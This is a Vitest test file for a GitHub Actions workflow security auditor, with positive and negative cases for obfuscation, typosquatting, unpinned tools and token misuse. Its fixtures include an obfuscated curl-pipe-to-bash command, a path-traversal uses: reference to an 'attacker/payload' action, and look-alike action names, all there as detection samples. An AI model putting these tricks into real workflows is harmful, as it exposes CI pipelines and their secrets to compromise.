import { describe, expect, it } from 'vitest';
import { lowerOwnOrganization } from '../../../src/ecosystems/github-actions/action-ref-rules.js';
import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
import { typosquatTarget } from '../../../src/ecosystems/github-actions/catalog-rules.js';
import { obfuscatedUses } from '../../../src/ecosystems/github-actions/obfuscation-rules.js';

/**
 * Positive and negative cases for the workflow audits added for parity with zizmor's offline list
 * (docs/findings.md, "zizmor parity"): obfuscation, archived and superfluous actions, unpinned tools,
 * trusted publishing, misfeatures, GitHub App tokens, unsound ternaries.
 */

const SHA = 'b4ffde65f46336ab88eb53be808477a3936bae11';

function found(content: string, id: string, path = '.github/workflows/x.yml'): [string, number | null][] {
  return (extractWorkflow(content, path).findings ?? []).filter((f) => f.id === id).map((f) => [f.severity, f.line]);
}

const wf = (steps: string, extra = '') => `name: CI
on: [push, pull_request]
permissions:
  contents: read
${extra}jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHA}
${steps}`;

describe('gha-obfuscation', () => {
  it('reports uses: paths with .. / . / empty segments and local actions that climb out of the workspace', () => {
    expect(obfuscatedUses('actions/checkout/../../evil/x@v4')).toMatch(/\.\./);
    expect(obfuscatedUses('actions//checkout@v4')).toMatch(/empty/);
    expect(obfuscatedUses('github/codeql-action/./init@v3')).toMatch(/\./);
    expect(obfuscatedUses('./../downloaded/action')).toMatch(/climbs out/);
    expect(found(wf(`      - uses: actions/checkout/../../attacker/payload@${SHA}\n`), 'gha-obfuscation')).toEqual([['high', 10]]);
  });

  it('reports constant expressions that hide text in a script, format() of literals and fromJSON(toJSON())', () => {
    const content = wf(`      - run: cu\${{ '' }}rl -sSf https://example.test/x.sh | ba\${{ '' }}sh
      - run: echo "\${{ format('{0}{1}', 'to', 'ken') }}"
      - uses: actions/github-script@${SHA}
        with:
          script: console.log(\${{ fromJSON(toJSON(github.event.issue.title)) }})
      - run: echo "\${{ github.event[format('{0}', 'issue')].title }}"
`);
    const results = found(content, 'gha-obfuscation');
    expect(results.map(([s]) => s)).toEqual(['high', 'high', 'high', 'high']);
    expect(results[0]![1]).toBe(10);
  });

  it('is quiet on ordinary uses: paths and expressions', () => {
    const content = wf(`      - uses: ./
      - uses: ./.github/actions/setup
      - uses: github/codeql-action/init@${SHA}
      - run: echo "\${{ matrix.node }} \${{ github.sha }} \${{ inputs.debug && 'yes' || 'no' }} \${{ '\${{' }} x }}"
        if: \${{ false }}
      - uses: actions/setup-node@${SHA}
        with:
          node-version: \${{ 20 }}
          cache: \${{ true }}
        env:
          LABEL: \${{ 'fixed' }}
`);
    expect(found(content, 'gha-obfuscation')).toEqual([]);
  });
});

describe('gha-archived-action', () => {
  it('reports an archived action with what to use instead', () => {
    const results = extractWorkflow(wf('      - uses: actions-rs/toolchain@v1\n        with:\n          toolchain: stable\n      - uses: actions/create-release@v1\n'), '.github/workflows/x.yml').findings ?? [];
    const archived = results.filter((f) => f.id === 'gha-archived-action');
    expect(archived.map((f) => [f.severity, f.package, f.line])).toEqual([
      ['low', 'actions-rs/toolchain', 10],
      ['low', 'actions/create-release', 13],
    ]);
    expect(archived[0]!.detail).toMatch(/rustup/);
  });

  it('is quiet on maintained actions', () => {
    expect(found(wf(`      - uses: dtolnay/rust-toolchain@${SHA}\n      - uses: ruby/setup-ruby@${SHA}\n`), 'gha-archived-action')).toEqual([]);
  });
});

describe('gha-superfluous-action', () => {
  it('notes an action that wraps a preinstalled tool, at info', () => {
    expect(found(wf(`      - uses: softprops/action-gh-release@${SHA}\n`), 'gha-superfluous-action')).toEqual([['info', 10]]);
  });
  it('is quiet on actions that do more than a preinstalled tool', () => {
    expect(found(wf(`      - uses: docker/build-push-action@${SHA}\n`), 'gha-superfluous-action')).toEqual([]);
  });
});

describe('gha-unpinned-tool', () => {
  it('reports actions that fetch the latest tool release', () => {
    expect(found(wf(`      - uses: aquasecurity/setup-trivy@${SHA}\n      - uses: hashicorp/setup-terraform@${SHA}\n        with:\n          terraform_version: latest\n`), 'gha-unpinned-tool')).toEqual([
      ['low', 10],
      ['low', 11],
    ]);
  });
  it('is quiet when the version is set', () => {
    expect(found(wf(`      - uses: aquasecurity/setup-trivy@${SHA}\n        with:\n          version: v0.57.1\n`), 'gha-unpinned-tool')).toEqual([]);
  });

  const privileged = (run: string, env = '') => `name: Label
on:
  pull_request_target:
permissions:
  contents: read
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: ${run}
${env}`;
  it('reports a run: step that installs a tool from a git ref that moves: medium on a privileged trigger or with secrets, low otherwise', () => {
    expect(found(privileged('pip install git+https://github.com/labeler-tools/pr-labeler'), 'gha-unpinned-tool')).toEqual([['medium', 10]]);
    expect(found(privileged('python -m pip install "git+https://github.com/labeler-tools/pr-labeler.git@main#egg=pr-labeler"'), 'gha-unpinned-tool')).toEqual([['medium', 10]]);
    const withSecret = wf('      - run: uv tool install git+https://gitlab.com/release-tools/notes-gen@develop\n        env:\n          PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}\n');
    expect(found(withSecret, 'gha-unpinned-tool')).toEqual([['medium', 10]]);
    expect(found(wf('      - run: npm install -g github:lint-tools/md-lint\n'), 'gha-unpinned-tool')).toEqual([['low', 10]]);
    expect(found(wf('      - run: cargo install --git https://github.com/rs-tools/sqlfmt --branch main\n'), 'gha-unpinned-tool')).toEqual([['low', 10]]);
    expect(found(privileged('go install github.com/gh-tools/triage@latest'), 'gha-unpinned-tool')).toEqual([['medium', 10]]);
    const finding = (extractWorkflow(privileged('pip install git+https://github.com/labeler-tools/pr-labeler'), '.github/workflows/x.yml').findings ?? []).find((f) => f.id === 'gha-unpinned-tool');
    expect(finding).toMatchObject({ package: 'labeler-tools/pr-labeler', title: 'Workflow installs labeler-tools/pr-labeler from a git ref that moves' });
  });

  it('reads a command split over continuation lines (a backslash at the end) as one', () => {
    const block = (...lines: string[]) => privileged(`|\n${lines.map((l) => `          ${l}`).join('\n')}`);
    expect(found(block('pip install --quiet \\', '  git+https://github.com/labeler-tools/pr-labeler@main'), 'gha-unpinned-tool')).toEqual([['medium', 12]]);
    expect(found(block('npm install -g \\', '  --no-audit \\', '  github:lint-tools/md-lint'), 'gha-unpinned-tool')).toEqual([['medium', 13]]);
    expect(found(block('go install \\', '  github.com/gh-tools/triage@latest'), 'gha-unpinned-tool')).toEqual([['medium', 12]]);
    expect(found(block('cargo install --git https://github.com/rs-tools/sqlfmt \\', '  --branch main'), 'gha-unpinned-tool')).toEqual([['medium', 11]]);
    // Pinned on the continuation line, or a line that only ends in a backslash inside a string.
    expect(found(block('cargo install --git https://github.com/rs-tools/sqlfmt \\', '  --rev 4f2a9c1d'), 'gha-unpinned-tool')).toEqual([]);
    expect(found(block('pip install \\', '  "git+https://github.com/labeler-tools/pr-labeler@v2.3.1"'), 'gha-unpinned-tool')).toEqual([]);
    expect(found(block('echo "pip install \\\\"', 'git clone https://github.com/labeler-tools/pr-labeler'), 'gha-unpinned-tool')).toEqual([]);
    expect(found(block('go install \\', '  github.com/gh-tools/triage@v1.4.0'), 'gha-unpinned-tool')).toEqual([]);
  });

  it('leaves pinned and local installs alone: a commit, a version tag, the project itself, a registry package, a comment', () => {
    for (const run of [
      'pip install git+https://github.com/labeler-tools/pr-labeler@0123456789abcdef0123456789abcdef01234567',
      'pip install "git+https://github.com/labeler-tools/pr-labeler@v2.3.1"',
      'pip install -e .',
      'pip install -r requirements.txt pr-labeler==2.3.1',
      'pip install git+https://github.com/${{ github.repository }}@${{ github.sha }}',
      'cargo install --git https://github.com/rs-tools/sqlfmt --rev 4f2a9c1d',
      'npm install github:lint-tools/md-lint#4f2a9c1d7e',
      'go install github.com/gh-tools/triage@v1.4.0',
      '# pip install git+https://github.com/labeler-tools/pr-labeler',
      'git clone https://github.com/labeler-tools/pr-labeler',
    ]) {
      expect(found(privileged(run), 'gha-unpinned-tool'), run).toEqual([]);
    }
    // The repository's own organization's tool: the same people's code (dropped); another owner's stays.
    const own = (owner: string) => lowerOwnOrganization(extractWorkflow(privileged('pip install git+https://github.com/Acme/pr-labeler@main'), '.github/workflows/x.yml').findings ?? [], owner).filter((f) => f.id === 'gha-unpinned-tool').map((f) => f.severity);
    expect(own('acme')).toEqual([]);
    expect(own('octo-org')).toEqual(['medium']);
  });
});

describe('gha-use-trusted-publishing', () => {
  it('reports publishing to PyPI, npm, crates.io and RubyGems with a stored token', () => {
    const content = wf(`      - uses: pypa/gh-action-pypi-publish@${SHA}
        with:
          password: \${{ secrets.PYPI_API_TOKEN }}
      - run: npm publish --provenance
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
      - run: cargo publish --token \${{ secrets.CRATES_TOKEN }}
      - run: gem push pkg/*.gem
        env:
          GEM_HOST_API_KEY: \${{ secrets.RUBYGEMS_KEY }}
`);
    const results = extractWorkflow(content, '.github/workflows/release.yml').findings?.filter((f) => f.id === 'gha-use-trusted-publishing') ?? [];
    expect(results.map((f) => [f.severity, f.title.replace(/.* to (\S+) .*/, '$1')])).toEqual([
      ['low', 'PyPI'],
      ['low', 'npm'],
      ['low', 'crates.io'],
      ['low', 'RubyGems'],
    ]);
    expect(results[0]!.line).toBe(12);
  });

  it('is quiet on trusted publishing (no token) and on tokens that are not publishing', () => {
    const content = wf(`      - uses: pypa/gh-action-pypi-publish@${SHA}
      - run: npm publish --provenance
      - run: npm test
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
`);
    expect(found(content, 'gha-use-trusted-publishing')).toEqual([]);
  });
});

describe('gha-misfeature', () => {
  it('reports pip-install on setup-python and the cmd shell', () => {
    const content = wf(`      - uses: actions/setup-python@${SHA}
        with:
          pip-install: -r requirements.txt
      - run: build.bat
        shell: cmd
`);
    expect(found(content, 'gha-misfeature')).toEqual([
      ['low', 12],
      ['low', 14],
    ]);
  });
  it('is quiet on setup-python without pip-install and on pwsh', () => {
    expect(found(wf(`      - uses: actions/setup-python@${SHA}\n        with:\n          python-version: '3.13'\n      - run: ./build.ps1\n        shell: pwsh\n`), 'gha-misfeature')).toEqual([]);
  });
});

describe('gha-github-app-token', () => {
  it('reports a token that skips revocation or reaches every repository of the owner', () => {
    const content = wf(`      - uses: actions/create-github-app-token@${SHA}
        with:
          app-id: \${{ vars.APP_ID }}
          private-key: \${{ secrets.APP_KEY }}
          owner: acme
          skip-token-revoke: true
`);
    expect(found(content, 'gha-github-app-token').map(([s]) => s)).toEqual(['low', 'low']);
  });
  it('is quiet on a token scoped to named repositories', () => {
    const content = wf(`      - uses: actions/create-github-app-token@${SHA}
        with:
          app-id: \${{ vars.APP_ID }}
          private-key: \${{ secrets.APP_KEY }}
          owner: acme
          repositories: website
`);
    expect(found(content, 'gha-github-app-token')).toEqual([]);
  });
});

describe('gha-unsound-ternary', () => {
  it("reports a && '' || b", () => {
    expect(found(wf(`      - run: echo "$FLAG"\n        env:\n          FLAG: \${{ github.event_name == 'push' && '' || '--dry-run' }}\n`), 'gha-unsound-ternary')).toEqual([['low', 12]]);
  });
  it('is quiet on a ternary whose true arm is truthy', () => {
    expect(found(wf(`      - run: echo "$FLAG"\n        env:\n          FLAG: \${{ github.event_name == 'push' && '--publish' || '--dry-run' }}\n`), 'gha-unsound-ternary')).toEqual([]);
  });
});

describe('gha-typosquat-action', () => {
  it('reports a look-alike of a popular action under another owner', () => {
    expect(typosquatTarget('action/checkout')).toBe('actions/checkout');
    expect(typosquatTarget('dokcer/login-action')).toBe('docker/login-action');
    expect(found(wf(`      - uses: actoins/setup-node@${SHA}\n`), 'gha-typosquat-action')).toEqual([['high', 10]]);
  });
  it('is quiet on the popular actions themselves, same-owner near misses and unrelated names', () => {
    expect(typosquatTarget('actions/checkout')).toBeNull();
    expect(typosquatTarget('actions/chekout')).toBeNull();
    expect(typosquatTarget('acme/deploy-action')).toBeNull();
    expect(found(wf(`      - uses: actions/setup-node@${SHA}\n      - uses: docker/login-action@${SHA}\n`), 'gha-typosquat-action')).toEqual([]);
  });
});
